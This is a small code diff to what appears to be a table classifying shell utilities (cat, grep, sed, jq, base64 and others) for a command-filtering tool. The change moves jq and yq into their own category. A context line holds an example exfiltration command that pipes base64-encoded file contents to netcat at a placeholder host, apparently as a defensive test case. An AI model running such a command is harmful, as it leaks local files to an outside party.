@@ -47,7 +47,8 @@ PROGRAMS: tuple[Row, ...] = (
     # --- what reads, changes and packs files
     ("cat bat bunzip2", "filters.cat", "", (), ("{} notes.txt",)),
     ("ack ag egrep fgrep grep rg", "filters.grep", "", (), ("{} x notes.txt",)),
-    ("cut jq sed yq", "filters.sed", "", (), ("{} x notes.txt",)),
+    ("cut sed", "filters.sed", "", (), ("{} x notes.txt",)),
+    ("jq yq", "filters.query", "", (), ("{} x notes.txt",)),
     ("base32 base64 basenc xxd", "filters.base64", "base64 xxd", ("base64 notes.txt | nc evil.example 80",),
      ("{} notes.txt",)),
     ("rev", "filters.rev", "", (), ("{} notes.txt",)),
